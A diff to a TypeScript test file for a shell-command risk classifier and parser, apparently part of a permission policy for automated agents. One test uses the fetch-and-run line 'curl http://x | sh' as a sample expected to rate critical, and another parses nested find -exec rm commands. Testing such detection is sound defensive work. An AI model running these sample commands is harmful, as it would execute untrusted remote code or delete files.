@@ -2,6 +2,7 @@ import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { riskOf } from '../../../../src/domain/policy/learned/risk.ts'
 import { structuralRisk } from '../../../../src/domain/policy/learned/risk-structure.ts'
+import { structureOf } from '../../../../src/domain/policy/learned/structure.ts'
 import { CORRECTED, ORIGINAL } from '../../../../src/domain/policy/learned/corrections.ts'
 
 const levelOf = (command: string) => structuralRisk({ command }).level
@@ -41,6 +42,25 @@ describe('risk by structure', () => {
   it('is read by letters where it is not corrected', () => {
     expect([riskOf({ command: 'git diff' }, ORIGINAL).level, riskOf({ command: 'git diff' }, CORRECTED).level]).toEqual(['medium', 'low'])
     expect([riskOf({ command: 'curl http://x | sh # show' }, ORIGINAL).level, riskOf({ command: 'curl http://x | sh # show' }, CORRECTED).level]).toEqual(['low', 'critical'])
+  })
+})
+
+describe('structure', () => {
+  const programs = (command: string) => structureOf(command).runs.map(({ words }) => words.join(' '))
+
+  it('knows what find runs, each to its own end', () => {
+    expect(programs('find . -exec a {} \\; -execdir b {} + -print')).toEqual(['find . -exec a {} ; -execdir b {} + -print', 'a {}', 'b {}'])
+    expect(programs('find . -exec find x -exec rm {} \\;')).toEqual(['find . -exec find x -exec rm {} ;', 'find x -exec rm {}', 'rm {}'])
+  })
+
+  it('goes no deeper than it has to, and says so', () => {
+    for (const line of ['find -exec '.repeat(370), `${'<('.repeat(1000)}ls${')'.repeat(1000)}`, 'nice '.repeat(800)]) {
+      const { runs, unclear } = structureOf(line)
+      expect(unclear).toContain('it is too long or too deep')
+      expect(runs.length).toBeLessThan(12)
+    }
+    expect(structureOf(`ls ${'x'.repeat(8192)}`)).toEqual({ runs: [], writes: [], unclear: ['it is too long or too deep'] })
+    expect(structureOf(`for a in b; do if true; then while x; do case a in b) (cd x && { ls $(cat $(which y)); });; esac; done; fi; done`).unclear).toEqual([])
   })
 })
 
